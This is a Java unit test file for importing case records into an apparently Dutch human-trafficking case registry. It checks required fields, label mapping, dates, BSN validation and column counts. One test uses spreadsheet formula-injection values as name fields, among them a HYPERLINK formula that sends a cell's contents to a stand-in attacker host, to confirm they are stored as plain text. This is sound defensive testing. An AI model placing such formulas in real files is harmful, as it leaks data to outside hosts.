package nl.casustafel.registry.gcos;

import static nl.casustafel.registry.gcos.GcosColumns.*;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.LocalDate;
import java.util.List;
import nl.casustafel.casefile.CaseStatus;
import nl.casustafel.casefile.CaseType;
import nl.casustafel.casefile.ExploitationForm;
import nl.casustafel.registry.gcos.ImportCommand.NewCase;
import nl.casustafel.registry.gcos.ImportCommand.NewClient;
import org.junit.jupiter.api.Test;

/** Each kind of bad line gets its own Dutch reason with its line number; good labels map. */
class LineValidationTest {

  private static final LocalDate TODAY = FileLevelTest.TODAY;

  /** The verdict on a file of one good line (line 2) and {@code line} (line 3). */
  private static LineReport judge(GcosFile.Line line) throws Exception {
    GcosFile file = new GcosFile().add(GcosFile.line("MH-0")).add(line);
    ImportReport r = GcosImport.dryRun(file.source(), ExistingRegistry.empty(), TODAY);
    assertNull(r.fileError());
    assertEquals(Outcome.NEW_CLIENT_NEW_CASE, r.lines().get(0).outcome());
    return r.lines().get(1);
  }

  private static void assertRejected(GcosFile.Line line, String... reasons) throws Exception {
    LineReport r = judge(line);
    assertEquals(Outcome.REJECTED, r.outcome());
    assertEquals(3, r.line());
    assertEquals(List.of(reasons), r.messages());
    assertTrue(r.describe().startsWith("Regel 3: afgekeurd."), r.describe());
  }

  @Test
  void requiredCells() throws Exception {
    assertRejected(GcosFile.line(" "), "Registratienummer is leeg.");
    assertRejected(GcosFile.line("MH-1").set(CASUSTYPE, ""), "Casustype is leeg.");
    assertRejected(GcosFile.line("MH-1").set(STATUS, ""), "Status is leeg.");
    assertRejected(GcosFile.line("MH-1").set(DATUM_AANMELDING, ""), "Datum aanmelding is leeg.");
    assertRejected(
        GcosFile.line("MH-1").set(ACHTERNAAM, " ").set(VOORNAMEN, ""), ImportText.NO_NAME);
  }

  @Test
  void unknownLabelsAreRejectedWithWhatIsAllowed() throws Exception {
    LineReport r = judge(GcosFile.line("MH-1").set(CASUSTYPE, "Mensensmokkel"));
    assertTrue(r.messages().get(0).startsWith("Casustype \"Mensensmokkel\" is onbekend"));
    assertTrue(r.messages().get(0).contains("Mensenhandel, Top X, TOP-X, MDA++"));
    assertEquals(Outcome.REJECTED, judge(GcosFile.line("MH-1").set(STATUS, "Dicht")).outcome());
    assertEquals(Outcome.REJECTED, judge(GcosFile.line("MH-1").set(GESLACHT, "F")).outcome());
    assertEquals(
        Outcome.REJECTED, judge(GcosFile.line("MH-1").set(UITBUITINGSVORM, "Bedelen")).outcome());
  }

  @Test
  void anExploitationFormBelongsToHumanTraffickingOnly() throws Exception {
    assertRejected(
        GcosFile.line("MH-1").set(CASUSTYPE, "Radicalisering"),
        ImportText.EXPLOITATION_ONLY_TRAFFICKING);
    LineReport fine =
        judge(GcosFile.line("MH-1").set(CASUSTYPE, "Radicalisering").set(UITBUITINGSVORM, ""));
    assertEquals(Outcome.NEW_CASE_FOR_CLIENT, fine.outcome(), "same BSN as line 2");
  }

  @Test
  void datesMustBeRealDaysNotInTheFuture() throws Exception {
    assertRejected(
        GcosFile.line("MH-1").set(GEBOORTEDATUM, "31-02-1999"),
        "Geboortedatum is geen geldige datum dd-mm-jjjj.");
    assertRejected(
        GcosFile.line("MH-1").set(DATUM_AANMELDING, "2020-03-03"),
        "Datum aanmelding is geen geldige datum dd-mm-jjjj.");
    assertRejected(
        GcosFile.line("MH-1").meeting("10-03-20"),
        "Datum overleg is geen geldige datum dd-mm-jjjj.");
    assertRejected(
        GcosFile.line("MH-1").meeting("01-01-0202"),
        "Datum overleg is geen geldige datum dd-mm-jjjj.");
    assertRejected(
        GcosFile.line("MH-1").meeting("02-12-2026"), "Datum overleg ligt in de toekomst.");
    assertEquals(
        Outcome.NEW_CASE_FOR_CLIENT, judge(GcosFile.line("MH-1").meeting("1-12-2026")).outcome());
  }

  @Test
  void anInvalidBsnIsRejectedWithoutShowingIt() throws Exception {
    String bad = TestBsns.invalid(7);
    LineReport r = judge(GcosFile.line("MH-1").set(BSN, bad));
    assertEquals(List.of(ImportText.BAD_BSN), r.messages());
    assertFalse(r.describe().contains(bad));
    assertEquals(Outcome.REJECTED, judge(GcosFile.line("MH-1").set(BSN, "12345")).outcome());
  }

  @Test
  void allReasonsOfALineAreGivenAtOnce() throws Exception {
    assertRejected(
        GcosFile.line("").set(BSN, "123").set(STATUS, ""),
        ImportText.BAD_BSN,
        "Registratienummer is leeg.",
        "Status is leeg.");
  }

  @Test
  void aLineWithTooFewOrTooManyColumnsIsRejected() throws Exception {
    GcosFile file =
        new GcosFile()
            .raw("MH-1;Mensenhandel;Jansen")
            .raw(GcosFile.line("MH-2") + ";extra")
            .add(GcosFile.line("MH-3"));
    ImportReport r = GcosImport.dryRun(file.source(), ExistingRegistry.empty(), TODAY);
    assertEquals(List.of("De regel heeft 3 kolommen; verwacht 16."), r.lines().get(0).messages());
    assertEquals(List.of("De regel heeft 17 kolommen; verwacht 16."), r.lines().get(1).messages());
    assertEquals(Outcome.NEW_CLIENT_NEW_CASE, r.lines().get(2).outcome());
    assertEquals(2, r.totals().rejected());
  }

  @Test
  void labelsMapWithoutRegardToCase() throws Exception {
    FakeRegistry sink = new FakeRegistry();
    GcosFile file =
        new GcosFile()
            .add(
                GcosFile.line("T-1")
                    .set(CASUSTYPE, "top-x")
                    .set(UITBUITINGSVORM, "")
                    .set(STATUS, "AFGESLOTEN"))
            .add(GcosFile.line("MH-2").set(UITBUITINGSVORM, "gedwongen huwelijk"))
            .add(GcosFile.line("D-3").set(CASUSTYPE, "mda++").set(UITBUITINGSVORM, ""));
    GcosImport.commit(file.source(), ExistingRegistry.empty(), TODAY, sink);
    List<NewCase> cases =
        sink.commands.stream().filter(NewCase.class::isInstance).map(NewCase.class::cast).toList();
    assertEquals(CaseType.TOP_X, cases.get(0).caseType());
    assertEquals(CaseStatus.CLOSED, cases.get(0).status());
    assertEquals(ExploitationForm.OTHER, cases.get(1).exploitationForm());
    assertEquals(CaseType.MDA_PLUS_PLUS, cases.get(2).caseType());
  }

  @Test
  void formulaLikeCellsStayPlainText() throws Exception {
    String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")";
    FakeRegistry sink = new FakeRegistry();
    GcosFile file =
        new GcosFile()
            .add(
                GcosFile.line("MH-1")
                    .set(ACHTERNAAM, hyperlink)
                    .set(TUSSENVOEGSEL, "@SUM(1+1)")
                    .set(VOORNAMEN, "+31 6")
                    .set(WOONPLAATS, "-2+3")
                    .set(NATIONALITEIT, "\tcmd")
                    .set(AANMELDER, "\r=1+1"));
    GcosImport.commit(file.source(), ExistingRegistry.empty(), TODAY, sink);
    Person p = ((NewClient) sink.commands.get(0)).person();
    assertEquals(hyperlink, p.surname());
    assertEquals("@SUM(1+1)", p.prefix());
    assertEquals("+31 6", p.givenNames());
    assertEquals("-2+3", p.residence());
    assertEquals("\tcmd", p.nationality());
    assertEquals("\r=1+1", ((NewCase) sink.commands.get(1)).referrer());
  }
}
